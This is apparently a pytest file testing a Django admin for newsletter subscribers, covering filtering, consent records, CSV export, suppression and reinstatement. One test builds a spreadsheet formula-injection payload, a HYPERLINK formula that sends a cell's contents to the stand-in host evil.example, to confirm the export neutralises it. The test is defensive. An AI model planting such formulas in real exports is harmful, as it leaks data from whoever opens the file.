import csv
import io

import pytest

from subscriptions.models import ConsentRecord, Subscriber
from tests.factories import SubscriberFactory, UserFactory

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/subscriptions/subscriber/"


@pytest.fixture
def editor(client):
    user = UserFactory(username="editor", is_staff=True, is_superuser=True)
    client.force_login(user)
    return client


def _action(client, action, subscribers):
    return client.post(
        CHANGELIST, {"action": action, "_selected_action": [s.pk for s in subscribers]}
    )


def test_the_list_filters_and_searches(editor):
    SubscriberFactory(email="ada@example.org")
    SubscriberFactory(email="alan@example.org", status=Subscriber.Status.BOUNCED)

    everyone = editor.get(CHANGELIST).content.decode()
    bounced = editor.get(CHANGELIST, {"status__exact": "bounced"}).content.decode()
    found = editor.get(CHANGELIST, {"q": "ada@"}).content.decode()

    assert "ada@example.org" in everyone and "alan@example.org" in everyone
    assert "alan@example.org" in bounced and "ada@example.org" not in bounced
    assert "ada@example.org" in found and "alan@example.org" not in found
    for status in ("Pending confirmation", "Confirmed", "Paused", "Unsubscribed", "Bounced"):
        assert status in everyone  # the status filter offers every status


def test_the_change_page_shows_consent_records(editor):
    subscriber = SubscriberFactory(email="ada@example.org")
    ConsentRecord.objects.create(subscriber=subscriber, kind="opt_in", source="/papers/x/")

    body = editor.get(f"{CHANGELIST}{subscriber.pk}/change/").content.decode()

    assert "/papers/x/" in body


def test_csv_export(editor):
    ada = SubscriberFactory(email="ada@example.org", keywords_include=["diffusion", "agents"])
    SubscriberFactory(email="not-selected@example.org")

    response = _action(editor, "export_csv", [ada])

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["email"] for r in rows] == ["ada@example.org"]
    assert rows[0]["status"] == "confirmed"
    assert rows[0]["keywords_include"] == "diffusion; agents"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(editor, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    hostile = SubscriberFactory(
        email="=1+2@example.org", keywords_include=[formula], keywords_exclude=["-2+3"]
    )

    response = _action(editor, "export_csv", [hostile])

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["email"] == "'=1+2@example.org"
    assert rows[0]["keywords_include"] == "'" + formula
    assert rows[0]["keywords_exclude"] == "'-2+3"
    assert rows[0]["status"] == "confirmed"  # ordinary cells are left alone


def test_suppress_and_reinstate(editor):
    confirmed = SubscriberFactory(email="ada@example.org")
    never_confirmed = SubscriberFactory(email="alan@example.org", status="pending")
    left = SubscriberFactory(email="grace@example.org", status="unsubscribed")
    confirmed.confirmed_at = confirmed.created_at
    confirmed.save()

    _action(editor, "suppress_bounced", [confirmed, never_confirmed])
    _action(editor, "suppress_complained", [left])

    statuses = dict(Subscriber.objects.values_list("email", "status"))
    assert statuses == {
        "ada@example.org": "bounced",
        "alan@example.org": "bounced",
        "grace@example.org": "complained",
    }

    _action(editor, "reinstate", [confirmed, never_confirmed])

    statuses = dict(Subscriber.objects.values_list("email", "status"))
    assert statuses["ada@example.org"] == "confirmed"
    assert statuses["alan@example.org"] == "pending"  # never straight to receiving mail
    assert ConsentRecord.objects.filter(kind="reinstate", source="admin: editor").count() == 2


def test_reinstate_leaves_unsubscribed_people_alone(editor):
    left = SubscriberFactory(email="grace@example.org", status="unsubscribed")

    response = _action(editor, "reinstate", [left])

    left.refresh_from_db()
    assert left.status == "unsubscribed"
    assert response.status_code == 302
    assert "can only resubscribe themselves" in editor.get(CHANGELIST).content.decode()


def test_consent_records_are_read_only(editor):
    subscriber = SubscriberFactory()
    record = ConsentRecord.objects.create(subscriber=subscriber, kind="opt_in")

    assert editor.get("/admin/subscriptions/consentrecord/add/").status_code == 403
    editor.post(f"/admin/subscriptions/consentrecord/{record.pk}/change/", {"source": "forged"})
    record.refresh_from_db()
    assert record.source == ""


def test_recorded_emails_show_what_waits_and_why_but_never_their_bodies(editor):
    from django.utils import timezone

    from subscriptions.models import OutboundEmail

    now = timezone.now()
    email = OutboundEmail.objects.create(
        kind="account/email/login_code",
        to="ada@example.org",
        body_text="Your code is SECRET-CODE",
        error="AnymailRequestsAPIError: Postmark API response 503",
        attempts=3,
        next_attempt_at=now,
        expires_at=now,
    )

    listing = editor.get("/admin/subscriptions/outboundemail/?status=pending").content.decode()
    page = editor.get(f"/admin/subscriptions/outboundemail/{email.pk}/change/").content.decode()

    assert "ada@example.org" in listing and "Postmark API response 503" in listing
    assert "SECRET-CODE" not in page and "Postmark API response 503" in page
    assert editor.get("/admin/subscriptions/outboundemail/add/").status_code == 403
